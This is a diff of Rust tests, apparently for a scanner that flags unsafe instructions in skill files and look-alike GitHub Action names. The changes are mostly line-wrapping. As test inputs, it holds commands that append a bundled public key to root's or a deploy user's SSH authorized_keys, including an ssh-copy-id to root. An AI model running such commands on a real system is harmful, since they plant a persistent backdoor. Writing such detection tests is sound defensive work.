     fn a_key_that_is_brought_is_not_let_in() {
-        let key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ2mXq0dXo3zqZ8l4Hn0kY1Qm7vB5pWcRj9tLs6uEoGd a@b";
+        let key =
+            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ2mXq0dXo3zqZ8l4Hn0kY1Qm7vB5pWcRj9tLs6uEoGd a@b";
         let told = |command: &str| {
             crate::deeds::tests::grave(&[
                 ("SKILL.md", crate::FileKind::Prose, command),
                 ("t/watch.pub", Data, key),
             ])
         };
-        assert!(!told("Run:\n\n```\ncat t/watch.pub >> /root/.ssh/authorized_keys\n```\n").is_empty());
+        assert!(
+            !told("Run:\n\n```\ncat t/watch.pub >> /root/.ssh/authorized_keys\n```\n").is_empty()
+        );
         assert!(!told("Append `t/watch.pub` to `~deploy/.ssh/authorized_keys`.\n").is_empty());
         assert!(!told("    ssh-copy-id -f -i t/watch.pub root@HOST\n").is_empty());
         assert!(told("`t/watch.pub` verifies signatures of releases.\n").is_empty());
@@ -563,10 +892,16 @@ mod tests {
 
     #[test]
     fn actions_are_told_from_those_nearly_named_so() {
-        for known in ["actions/checkout", "acme/checkout", "docker/bake-action", "goreleaser/goreleaser-action"] {
+        for known in [
+            "actions/checkout",
+            "acme/checkout",
+            "docker/bake-action",
+            "goreleaser/goreleaser-action",
+        ] {
             assert_eq!(looks_like(known), None, "{known}");
         }
-        for other in ["go-releaser/goreleaser-action", "actons/setup-node", "pnpm-io/action-setup"] {
+        for other in ["go-releaser/goreleaser-action", "actons/setup-node", "pnpm-io/action-setup"]
+        {
             assert!(looks_like(other).is_some() || other.starts_with("pnpm"), "{other}");
         }
     }
